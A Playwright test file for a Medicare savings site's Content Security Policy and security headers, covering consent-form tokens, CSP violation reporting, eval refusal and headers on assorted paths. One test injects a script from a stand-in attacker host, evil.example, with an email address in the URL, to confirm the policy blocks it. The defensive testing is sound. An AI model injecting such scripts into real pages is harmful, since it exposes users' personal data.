import { expect, test } from '@playwright/test';
import { listHeaderFaults, watchViolations } from '@/tests/support/security-headers';
import { waitForIdleShell } from '@/tests/support/shell';
import { giveConsent, walkToConsent } from '@/tests/support/walk-medicare';

// Each sampled page with its headers and its policy stands in `places`.

test('tags, certificates, a paid call and its number work under the policy', async ({ page }) => {
  const violations = await watchViolations(page);
  await page.goto('/otc-savings');
  await walkToConsent(page, { zipcode: '33101', firstName: 'Mary', lastName: 'Lee', phone: '2065550123' });
  await expect(page.locator('form [name=xxTrustedFormCertUrl]')).toHaveCount(1);
  await expect(page.locator('#leadid_token')).not.toHaveValue('');
  await giveConsent(page);
  expect(violations).toEqual([]);
});

test('what is not listed stays out, and the server takes the report of it', async ({ page }) => {
  const violations = await watchViolations(page);
  await page.goto('/privacy');
  await waitForIdleShell(page);
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.src = 'https://evil.example/x.js?mary@example.com';
    document.head.append(script);
  });
  await expect.poll(() => violations.join(' ')).toContain('script-src-elem https://evil.example/x.js');
  // Browsers send theirs when they like, and tests do not see it.
  const report = { 'csp-report': { 'effective-directive': 'script-src-elem', 'blocked-uri': 'https://evil.example' } };
  const headers = { 'content-type': 'application/csp-report' };
  const answer = await page.request.post('/api/security-report', { headers, data: JSON.stringify(report) });
  expect(answer.status()).toBe(204);
  // Later, as what a test evaluates may itself use eval.
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = `setTimeout(() => {
      try {
        document.body.dataset.evaluated = eval('"yes"');
      } catch {
        document.body.dataset.evaluated = 'refused';
      }
    })`;
    document.head.append(script);
  });
  await expect(page.locator('body')).toHaveAttribute('data-evaluated', 'refused');
});

test('whatever is answered carries the set, and what is no page runs nothing', async ({ request }) => {
  const faults: string[] = [];
  for (const [path, status] of [
    ['/nope', 404],
    ['/robots.txt', 200],
    ['/favicon.ico', 404],
    ['/icons/m10.svg', 200],
    ['/_next/static/nothing.js', 404],
    ['/api/health', 200],
    ['/api/nothing', 404],
    ['/api/event/create', 405],
    ['/%ff', 400],
    ['/otc-savings?utm_source=a&utm_source=b', 307],
  ] as const) {
    const response = await request.get(path, { maxRedirects: 0 });
    const headers = response.headers();
    faults.push(...listHeaderFaults(headers).map((name) => `${path}: ${name}`));
    if (response.status() !== status) faults.push(`${path}: ${response.status()}`);
    const isPage = path === '/nope' || path === '/robots.txt';
    if (headers['content-security-policy']?.includes('script-src') !== isPage) faults.push(`${path}: policy`);
    if (path.startsWith('/api/') && headers['cross-origin-resource-policy'] !== 'same-origin') faults.push(path);
  }
  const misdirected = await request.get('/', { headers: { host: 'somebody-else.example' } });
  faults.push(...listHeaderFaults(misdirected.headers()));
  const refused = await request.post('/otc-savings');
  faults.push(...listHeaderFaults(refused.headers()));
  expect(faults).toEqual([]);
  expect([misdirected.status(), refused.status()]).toEqual([421, 405]);
});
